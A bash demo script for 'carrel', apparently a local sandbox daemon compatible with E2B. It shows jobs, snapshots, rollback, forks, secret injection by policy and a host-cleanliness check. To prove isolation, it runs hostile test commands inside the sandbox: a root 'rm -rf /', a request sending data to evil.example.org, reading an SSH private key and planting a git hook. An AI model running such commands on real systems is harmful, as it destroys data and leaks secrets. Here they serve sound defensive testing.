#!/usr/bin/env bash
# The demo: a private daemon, a real job through the E2B SDK and the CLI, and a
# look at what is left on the host. Needs what "make demo" has checked and built.
set -euo pipefail
cd "$(dirname "$0")/.."
carrel=$PWD/bin/carrel
work=$(mktemp -d "${TMPDIR:-/tmp}/carrel-demo.XXXXXX")
out=$PWD/bin/demo
mkdir -p "$out"
daemon=
model=

finish() {
	status=$?
	[ -z "$model" ] || kill "$model" 2>/dev/null || true
	if [ -n "$daemon" ]; then
		"$carrel" --data-dir "$work/data" kill --all >/dev/null 2>&1 || true
		kill "$daemon" 2>/dev/null || true
		wait "$daemon" 2>/dev/null || true
	fi
	if [ "$status" != 0 ] && [ -f "$work/log" ]; then
		echo "demo: failed; the daemon's last words:" >&2
		tail -20 "$work/log" >&2
	fi
	rm -rf "$work"
	exit "$status"
}
trap finish EXIT

step() { printf '\n\033[1m%s\033[0m\n' "$*"; }
python_before=$(sha256sum "$(readlink -f /usr/bin/python3 2>/dev/null || command -v python3)")
mounts_before=$(wc -l </proc/self/mounts)

step "1. a daemon of our own, on a port of its own"
key=sk-$RANDOM$RANDOM$RANDOM$RANDOM
node demo/model.mjs "$work/model-port" "$key" &
model=$!
for _ in $(seq 100); do [ -s "$work/model-port" ] && break || sleep 0.1; done
# The whole world outside, for this demo: one name, one address.
cat >"$work/world.json" <<END
{"names": {"api.example.com": ["203.0.113.9"]}, "dial": {"203.0.113.9:80": "127.0.0.1:$(cat "$work/model-port")"}}
END
"$carrel" --data-dir "$work/data" serve --listen 127.0.0.1:0 --warm 0 --wire-table "$work/world.json" >"$work/log" 2>&1 &
daemon=$!
for _ in $(seq 600); do
	[ -f "$work/data/daemon.json" ] && "$carrel" --data-dir "$work/data" ls >/dev/null 2>&1 && break
	kill -0 "$daemon" 2>/dev/null || exit 1
	sleep 0.1
done
url=$(sed -n 's/.*"url" *: *"\([^"]*\)".*/\1/p' "$work/data/daemon.json")
echo "listening on $url"

step "2. E2B's SDK from the registry, unmodified"
(cd demo && npm ci --silent --no-progress)
echo "e2b $(node -p 'require("./demo/node_modules/e2b/package.json").version')"
echo "(the first sandbox waits for its template: this machine's tools, packed once, unless you made base)"
"$carrel" --data-dir "$work/data" template inspect base >/dev/null

step "3. a real job"
E2B_API_URL=$url E2B_SANDBOX_URL=$url E2B_API_KEY=$(cat "$work/data/api-key") node demo/demo.mjs "$out" | tee "$work/out"
id=$(sed -n 's/^sandbox \(i[a-z0-9]*\)$/\1/p' "$work/out")

# Those that are started ahead have underscores where others have their sandbox's ID.
kernels() { pgrep -a -f "^carrel-sentry .*$work" | grep -vc '____________' || true; }
running=$(kernels)
[ "$running" = 1 ] || { echo "demo: $running sandbox processes, expected 1" >&2; exit 1; }

step "4. the same sandbox from the command line"
export CARREL_DATA_DIR=$work/data
"$carrel" ls
"$carrel" exec "$id" -- bash -c 'echo "still here: $(ls | tr "\n" " ")"'
"$carrel" cp "$id:report.txt" - | head -4

step "5. undo, close the lid, fork"
moment=$("$carrel" snapshot "$id" --label "before the mess")
"$carrel" exec -u root "$id" -- rm -rf --no-preserve-root / 2>/dev/null || true
"$carrel" rollback "$id" "$moment" >/dev/null
"$carrel" exec "$id" -- bash -c 'echo "rm -rf / and back: $(ls | tr "\n" " ")"'
"$carrel" pause "$id" >/dev/null
[ "$(kernels)" = 0 ] || { echo "demo: a paused sandbox has a process" >&2; exit 1; }
echo "paused: no process, no memory"
forks=$("$carrel" fork "$id" -n 3)
for f in $forks; do "$carrel" exec "$f" -- bash -c 'echo "fork $(hostname) has $(ls | wc -l) files"'; done
"$carrel" timeline "$id"
"$carrel" kill "$id" $forks

step "6. a way out by policy, and a key that it never holds"
printf %s "$key" | "$carrel" secret set model-key --host api.example.com >/dev/null
id=$("$carrel" create --policy demo/policy.yaml)
ask='import os, sys, urllib.request as u
print(u.urlopen(u.Request(sys.argv[1], headers={"Authorization": "Bearer " + os.environ["MODEL_KEY"]})).read().decode(), end="")'
"$carrel" exec "$id" -- python3 -c "$ask" http://api.example.com/ | tee "$work/answer"
grep -q "the model answers" "$work/answer" || exit 1
"$carrel" exec "$id" -- python3 -c "$ask" 'http://evil.example.org/?q=my-data' >"$work/answer" 2>&1 || true
grep '^carrel: denied' "$work/answer"
if "$carrel" exec -u root "$id" -- grep -rqs "$key" /run /home /etc /tmp /proc/self/environ; then
	echo "demo: the key is in the sandbox" >&2
	exit 1
fi
"$carrel" audit "$id"
"$carrel" kill "$id"

step "7. one command in a box on this machine, with no daemon"
mkdir -p "$work/home/.ssh" "$work/project"
echo "a private key" >"$work/home/.ssh/id_ed25519"
git init -q "$work/project"
(
	cd "$work/project"
	HOME=$work/home "$carrel" run -- sh -c 'echo work >result.txt
cat ~/.ssh/id_ed25519 && exit 1
echo "steal" >.git/hooks/post-commit && exit 1
python3 -c "import socket; socket.getaddrinfo(\"evil.example.org\", 443)" 2>/dev/null && exit 1
exit 0'
)
[ "$(cat "$work/project/result.txt")" = work ] && [ ! -e "$work/project/.git/hooks/post-commit" ] || exit 1

step "8. the host stayed clean"
python_after=$(sha256sum "$(readlink -f /usr/bin/python3 2>/dev/null || command -v python3)")
[ "$python_before" = "$python_after" ] || exit 1
echo "this machine's python3 is untouched"
[ "$(wc -l </proc/self/mounts)" = "$mounts_before" ] || exit 1
echo "no mount was left"
left=$(kernels)
[ "$left" = 0 ] || exit 1
echo "no sandbox process was left"
[ -s "$out/report.txt" ] && [ -s "$out/strikes.svg" ] && grep -q '10000 reports' "$out/report.txt" || exit 1
echo "the report is in bin/demo: report.txt, strikes.svg"

step "What to try next"
cat <<NEXT
  bin/carrel run -- npm test                        # box one command, here and now
  bin/carrel serve                                  # the daemon, on 127.0.0.1:7070
  id=\$(bin/carrel create)                           # a computer of its own
  bin/carrel shell \$id                              # look around in it
  bin/carrel cp ./project \$id:project               # bring your files
  bin/carrel exec \$id -- python3 -c 'print(6*7)'    # run something
  bin/carrel doctor                                 # what this host can do
  or point any E2B client at it: E2B_API_URL=E2B_SANDBOX_URL=http://127.0.0.1:7070
NEXT
